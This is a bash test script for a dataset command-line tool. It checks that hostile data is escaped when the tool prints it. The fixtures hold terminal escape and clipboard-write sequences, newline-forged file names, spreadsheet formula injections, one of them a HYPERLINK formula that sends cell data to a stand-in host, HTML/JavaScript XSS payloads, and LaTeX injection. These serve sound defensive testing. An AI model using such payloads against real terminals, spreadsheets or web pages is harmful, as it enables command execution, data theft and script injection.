# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck shell=bash disable=SC2154
#
# Sourced by packaging/faults.sh. Data cannot control the terminal or forge output.

# Creates a folder with control characters wherever a dataset has names and texts: hostile/ok.jsonl, br.jsonl,
# conf.json …
make_hostile() {
    python3 - <<'P'
import json, os
n = 'A\x1b]0;PWNED\x07\x1b[31m\x1b]52;c;ZXZpbA==\x07\x9b31m\x9d0;P\x9c\u202eevil\u2066\r\x08\x7f\x85'
os.mkdir('hostile')
with open('hostile/ok.jsonl', 'w') as o:
    for i in range(2):
        o.write(json.dumps({'id': n + str(i), 'source': 's' + n, 'num' + n: i, 'meta': {'k' + n: 'v' + n},
                            'messages': [{'role': 'r' + n, 'content': 'text ' + n + '\nsecond\tline', 'f' + n: 'g' + n},
                                         {'role': 'assistant', 'content': 'y'}]}) + '\n')
open('hostile/br.jsonl', 'w').write('{"id": "one", "messages": []}\n{"id": bro' + n + '}\n')
json.dump({'k' + n: 1}, open('hostile/conf.json', 'w'))
open('hostile/e\x1b]0;T\x07\x1b[2J.jsonl', 'w').write('{"id": broken\n')
P
}

# Standard input has no control characters except line breaks and tabs, no C1, and nothing that sets the writing
# direction.
no_controls() {
    python3 -c "
import sys
text = sys.stdin.buffer.read().decode('utf-8')
bad = {c for c in text if (ord(c) < 32 and c not in '\n\t') or 0x7f <= ord(c) <= 0x9f
       or c in '\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'}
sys.exit('found ' + repr(bad) if bad else 0)"
}

# No line of file $2 matches expression $1.
lacks() {
    if grep -nE -- "$1" "$2"; then
        return 1
    fi
}

# Runs duologue-cli with a terminal as standard output and standard error, and prints what the terminal receives.
on_terminal() {
    python3 -c "
import os, pty, subprocess, sys, tty
master, slave = pty.openpty()
tty.setraw(slave)
child = subprocess.Popen(sys.argv[1:], stdout=slave, stderr=slave)
os.close(slave)
got = b''
while True:
    try:
        piece = os.read(master, 65536)
    except OSError:
        break
    if not piece:
        break
    got += piece
child.wait()
sys.stdout.buffer.write(got)" "$cli" "$@"
}

tables_show_controls() {
    make_hostile
    local mean
    mean=$(python3 -c "import json; print(next(k for k in json.loads(open('hostile/ok.jsonl').readline()) if k.startswith('num')))")
    "$cli" info hostile 2>&1 | no_controls
    "$cli" list hostile 2>&1 | no_controls
    "$cli" list hostile --columns id,file,source 2>&1 | no_controls
    "$cli" list hostile --columns id,source --format markdown 2>&1 | no_controls
    "$cli" list hostile --columns id,source --format latex 2>&1 | no_controls
    "$cli" stats hostile --by source 2>&1 | no_controls
    "$cli" stats hostile --by role 2>&1 | no_controls
    "$cli" stats hostile --by file --mean "$mean" 2>&1 | no_controls
    "$cli" search hostile text 2>&1 | no_controls
    ("$cli" validate hostile || [ $? = 1 ]) 2>&1 | no_controls
    "$cli" list hostile --columns id 2>/dev/null | grep -qF '\x1b]0;PWNED\x07'
}
situation "Tables, info, validate and what is said beside them show control characters as escapes" tables_show_controls

terminal_gets_no_controls() {
    make_hostile
    on_terminal show hostile/ok.jsonl --record 1 | no_controls
    on_terminal show hostile/ok.jsonl --record 1 --format markdown | no_controls
    on_terminal show hostile/ok.jsonl --record 1 --format json | no_controls
    on_terminal show hostile/br.jsonl --record 2 | no_controls
    on_terminal list hostile/ok.jsonl --format csv | no_controls
    on_terminal list hostile/ok.jsonl --format jsonl | no_controls
    on_terminal show hostile/ok.jsonl --record 1 | grep -qF '\x1b]0;PWNED\x07'
    # The lines of a message stay lines and keep their tabs.
    on_terminal show hostile/ok.jsonl --record 1 | grep -qx $'second\tline'
}
situation "A terminal gets no control character of data, whatever is printed" terminal_gets_no_controls

pipes_get_what_is_there() {
    make_hostile
    "$cli" show hostile/ok.jsonl --record 1 | grep -qF $'text A\e]0;PWNED\a'
    "$cli" list hostile/ok.jsonl --columns id --format csv | grep -qF $'A\e]0;PWNED\a'
    "$cli" list hostile/ok.jsonl --columns id --format jsonl >ids
    python3 -c "
import json
ids = [json.loads(line)['id'] for line in open('ids')]
assert ids == [json.loads(line)['id'] for line in open('hostile/ok.jsonl')], ids"
}
situation "csv, json and show into a pipe hold the text as it is" pipes_get_what_is_there

names_forge_no_line() {
    mkdir d
    echo '{"id": 1, "messages": [{"role": "user", "content": "x"}]}' >d/ok.jsonl
    touch d/a$'\n''problems  0 errors'$'\e[31m'.txt
    echo '{"id": broken' >d/b$'\n''duologue-cli: all is well.jsonl'
    [ "$("$cli" info d 2>/dev/null | grep -c '^problems  ')" = 1 ]
    "$cli" info d 2>/dev/null | grep -qF '  a\nproblems  0 errors\x1b[31m.txt: '
    "$cli" info d 2>&1 >/dev/null | grep -q '^duologue-cli: b\\nduologue-cli: all is well'
    ("$cli" validate d || [ $? = 1 ]) >validated
    grep -qF 'b\nduologue-cli: all is well.jsonl:1:' validated
}
situation "A line break in the name of a file makes no second line" names_forge_no_line

make_formulas() {
    python3 - <<'P'
import json
with open('f.jsonl', 'w') as o:
    for t in ("=cmd|' /C calc'!A0", '+1+cmd', '-2+3+cmd', '@SUM(1)', '\t=1', '\r=1', '=HYPERLINK("http://e/?"&A1,"x")', '-2', '+1.5'):
        o.write(json.dumps({'id': t, 'source': t, 'messages': [{'role': 'user', 'content': 'SUM ' + t}]}) + '\n')
P
}

# The cells of standard input (CSV with that separator) that a spreadsheet would run as formulas; $2 are expected.
running_cells() {
    python3 -c "
import csv, io, re, sys
rows = csv.reader(io.StringIO(sys.stdin.buffer.read().decode(), newline=''), delimiter=sys.argv[1])
cells = [c for row in rows for c in row if c[:1] in tuple('=+-@\t\r') and c and not re.fullmatch(r'[-+]?[0-9.]+', c)]
sys.exit(0 if bool(cells) == (sys.argv[2] == 'some') else repr(cells))" "$1" "$2"
}

sheets_run_nothing() {
    make_formulas
    "$cli" list f.jsonl --columns id,source --format csv | running_cells , no
    "$cli" list f.jsonl --columns id,source --format tsv | running_cells $'\t' no
    "$cli" stats f.jsonl --by source --format csv | running_cells , no
    "$cli" search f.jsonl SUM --format csv | running_cells , no
    "$cli" list f.jsonl --columns id --format csv | grep -qx -- -2
    "$cli" list f.jsonl --columns id --format csv | grep -qx -- +1.5
    "$cli" list f.jsonl --columns id,source --format csv --raw-cells | running_cells , some
    "$cli" stats f.jsonl --by source --format csv --raw-cells | running_cells , some
}
situation "csv and tsv guard cells that a spreadsheet would run, and numbers stay numbers" sheets_run_nothing

markdown_cells_are_texts() {
    python3 - <<'P'
import json
with open('m.jsonl', 'w') as o:
    for t in ('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '![](http://evil/t.png)', 'a|b', '# h'):
        o.write(json.dumps({'id': t, 'messages': [{'role': 'user', 'content': 'x'}]}) + '\n')
P
    "$cli" list m.jsonl --columns id --format markdown >table
    lacks '(^|[^\\])(<|\[|`)' table
    grep -qxF '| a\|b |' table
    grep -qxF '| !\[](http\://evil/t.png) |' table
}
situation "No cell of a Markdown table becomes HTML, a link or a picture" markdown_cells_are_texts

markdown_texts_forge_nothing() {
    python3 - <<'P'
import json
json.dump({'messages': [{'role': 'user', 'content': 'a\n\n### 2 · assistant\n\nI agree\n```\n<img src="http://evil/t.png">'},
                        {'role': 'assistant', 'content': '<!--'}],
           'source': '<img src=x onerror=alert(1)>\n### 3 · user'}, open('m.json', 'w'))
P
    "$cli" show m.json --record 1 --format markdown >shown
    python3 - <<'P'
fence, outside = None, []
for line in open('shown', encoding='utf-8').read().split('\n'):
    if fence is None and line.startswith('```'):
        fence = line
    elif fence is not None and line.startswith(fence) and not line.strip('`'):
        fence = None
    elif fence is None:
        outside.append(line)
assert fence is None
assert [l for l in outside if l.startswith('#')] == ['### 1 · user', '### 2 · assistant'], outside
assert not any('<img' in l.replace('\\<', '') or '<!--' in l for l in outside), outside
P
}
situation "No text of a message becomes a heading, HTML or a picture in Markdown" markdown_texts_forge_nothing

latex_cells_are_texts() {
    python3 - <<'P'
import json
with open('l.jsonl', 'w') as o:
    for t in ('[3cm]', '*', '[', '[t]x', 'a\x1b\x00b', '"<>|`', '\\input{x} 5% & #$_~^'):
        o.write(json.dumps({'id': t, 'messages': [{'role': 'user', 'content': 'x'}]}) + '\n')
P
    "$cli" list l.jsonl --columns id,record --format latex >table
    no_controls <table
    lacks '^ *[[*]' table
    grep -qF '{[}3cm] & ' table
    grep -qF '{*} & ' table
    grep -qF '\textbackslash{}input\{x\} 5\% \& \#\$\_\textasciitilde{}\textasciicircum{}' table
    lacks '<' table
}
situation "No cell of a LaTeX table is an argument, a command or a control character" latex_cells_are_texts

settings_are_private() {
    echo '{"id": 1, "messages": [{"role": "user", "content": "x"}]}' >ok.jsonl
    umask 022
    QT_QPA_PLATFORM=offscreen "$program" ok.jsonl &
    local window=$! file=
    for _ in $(seq 100); do
        file=$(find "$XDG_CONFIG_HOME" -name '*.conf' -size +0 2>/dev/null | head -n 1) || true
        [ -z "$file" ] || break
        sleep 0.1
    done
    kill "$window"
    wait "$window" || true
    grep -q ok.jsonl "$file"
    [ "$(stat -c %a "$file")" = 600 ]
}
situation "The settings, which hold queries and paths, can be read by their owner alone" settings_are_private
